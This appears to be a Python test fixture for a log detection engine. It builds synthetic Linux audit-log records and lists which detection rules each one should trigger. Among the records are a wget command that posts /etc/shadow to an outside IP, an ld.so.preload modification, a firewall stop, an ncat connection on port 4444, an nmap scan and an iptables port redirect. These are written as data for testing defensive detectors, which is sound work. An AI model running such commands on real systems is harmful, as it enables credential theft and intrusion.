"""Linux's audit log: records of several events, some mixed, some as an ENRICHED log has them."""

from __future__ import annotations

from engine.model import LogSource
from tests.logs.case import Case

IDS = "auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3"


def stamp(number: int) -> str:
    return f"msg=audit({1714557600 + number}.120:{400 + number}):"


def syscall(number: int, call: int, exe: str, *, key: str = "(null)", extra: str = "a0=1 a1=2 a2=3 a3=4") -> str:
    comm = exe.rsplit("/", 1)[-1]
    return (
        f"type=SYSCALL {stamp(number)} arch=c000003e syscall={call} success=yes exit=0 {extra} items=2 ppid=900 "
        f'pid={1000 + number} {IDS} comm="{comm}" exe="{exe}" subj=unconfined key={key}'
    )


def execve(number: int, exe: str, *arguments: str, key: str = "(null)") -> list[str]:
    """A program that is started, with all that is written of it."""
    words = " ".join(f"a{index}={written(word)}" for index, word in enumerate(arguments))
    return [
        syscall(number, 59, exe, key=key),
        f"type=EXECVE {stamp(number)} argc={len(arguments)} {words}",
        f'type=CWD {stamp(number)} cwd="/root"',
        f'type=PATH {stamp(number)} item=0 name="{exe}" inode=1 dev=fd:00 mode=0100755 nametype=NORMAL',
        f"type=PROCTITLE {stamp(number)} proctitle={hexed(chr(0).join(arguments))}",
    ]


def written(word: str) -> str:
    return hexed(word) if set(word) & set(' "') else f'"{word}"'


def hexed(text: str) -> str:
    return text.encode().hex().upper()


def opened(number: int, name: str, kind: str = "NORMAL") -> list[str]:
    return [
        syscall(number, 257, "/usr/bin/vim"),
        f'type=PATH {stamp(number)} item=0 name="{name}" inode=9 mode=0100644 ouid=0 nametype={kind}',
        f"type=EOE {stamp(number)} ",
    ]


def said(number: int, kind: str, text: str) -> list[str]:
    return [f"type={kind} {stamp(number)} pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='{text}'"]


def mixed(one: list[str], other: list[str]) -> list[str]:
    """Records of two events, one of this and one of that."""
    both = [line for pair in zip(one, other, strict=False) for line in pair]
    return both + one[len(other) :] + other[len(one) :]


ENRICHED = (
    syscall(19, 105, "/usr/bin/id") + '\x1dARCH=x86_64 SYSCALL=setuid AUID="ann" UID="root" GID="root" EUID="root"'
)
CONNECT = [
    syscall(20, 42, "/usr/bin/ncat", key='"network_connect_4"'),
    f"type=SOCKADDR {stamp(20)} saddr=0200115CC63364070000000000000000",
]
EVENTS: list[list[str]] = [
    execve(1, "/usr/bin/ls", "ls", "-l", "/tmp/a b"),
    execve(2, "/usr/bin/wget", "wget", "--post-file=/etc/shadow", "http://198.51.100.7/"),
    execve(3, "/usr/bin/wget", "wget", "--quiet", "http://198.51.100.7/"),  # near
    [*mixed(execve(4, "/usr/bin/chmod", "chmod", "777", "/srv"), opened(5, "/etc/ld.so.preload"))],
    opened(6, "/etc/ld.so.conf"),  # near
    opened(7, "/etc/systemd/system/x.service", "CREATE"),
    opened(8, "/etc/systemd/system/x.service"),  # near: not created
    said(9, "SERVICE_STOP", 'unit=firewalld comm="systemd" exe="/lib/systemd/systemd" hostname=? addr=? res=success'),
    said(10, "SERVICE_STOP", 'unit=nginx comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? res=success'),
    said(11, "ADD_USER", 'op=add-user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'),
    said(12, "USER_LOGIN", 'op=login id=1000 exe="/usr/sbin/sshd" hostname=198.51.100.7 addr=198.51.100.7 res=success'),
    said(13, "USER_AUTH", 'op=PAM:authentication acct="root" exe="/usr/sbin/sshd" addr=198.51.100.7 res=failed'),
    [syscall(14, 133, "/usr/bin/mknod")],
    [syscall(15, 132, "/usr/bin/touch")],  # near: utime
    [syscall(16, 103, "/usr/bin/dmesg", extra="a0=5 a1=0 a2=0 a3=0")],
    [syscall(17, 103, "/usr/bin/dmesg", extra="a0=3 a1=0 a2=0 a3=0")],  # near: only read
    [syscall(18, 175, "/usr/bin/kmod").replace('comm="kmod"', 'comm="insmod"')],
    [ENRICHED],
    CONNECT,
    execve(21, "/usr/bin/nmap", "nmap", "198.51.100.0/24", key=hexed("susp_activity\x01recon")),
    execve(22, "/usr/sbin/iptables", "iptables", "-t", "nat", "-D", "PREROUTING", "-j", "X", "--to-ports", "42392"),
]  # fmt: skip
AUDITD, STARTED = LogSource("linux", "auditd"), LogSource("linux", "auditd", "process_creation")
CASE = Case(
    text="".join(f"{line}\n" for event in EVENTS for line in event).encode(),
    ref="audit.log",
    kinds={STARTED: 6, AUDITD: 16},
    glance={2: ("1000", "", "wget --post-file=/etc/shadow http://198.51.100.7/"),
            9: ("4294967295", "?", "SERVICE_STOP"), 19: ("ann", "", "setuid")},
    time="2024-05-01T10:00:01.120000Z",
    fires={
        "lnx_auditd_bpfdoor_port_redirect": [22],
        "lnx_auditd_clean_disable_dmesg_logs_via_syslog": [16],
        "lnx_auditd_create_account": [11],
        "lnx_auditd_data_exfil_wget": [2],
        "lnx_auditd_disable_system_firewall": [9],
        "lnx_auditd_file_or_folder_permissions": [4],
        "lnx_auditd_ld_so_preload_mod": [5],
        "lnx_auditd_load_module_insmod": [18],
        "lnx_auditd_network_service_scanning": [20],
        "lnx_auditd_susp_c2_commands": [21],
        "lnx_auditd_susp_cmds": [4],
        "lnx_auditd_susp_special_file_creation_via_mknod_syscall": [14],
        "lnx_auditd_systemd_service_creation": [7],
        "lnx_ldso_preload_injection": [5],
        "proc_creation_lnx_susp_network_utilities_execution": [21],
        "proc_creation_lnx_system_network_discovery": [22],
    },
    own={"{type: EXECVE, a2: /tmp/a b}": [1],
         "{type: PATH, name: /etc/ld.so.preload}": [5],
         "{Image|endswith: /nmap, CommandLine|contains: ' 198.', User: root, CurrentDirectory: /root}": [21],
         "{key: recon}": [21],
         "{SYSCALL: connect, laddr: 198.51.100.7, lport: 4444}": [20],
         "{type: SERVICE_STOP, unit: nginx, res: success}": [10]},
)  # fmt: skip
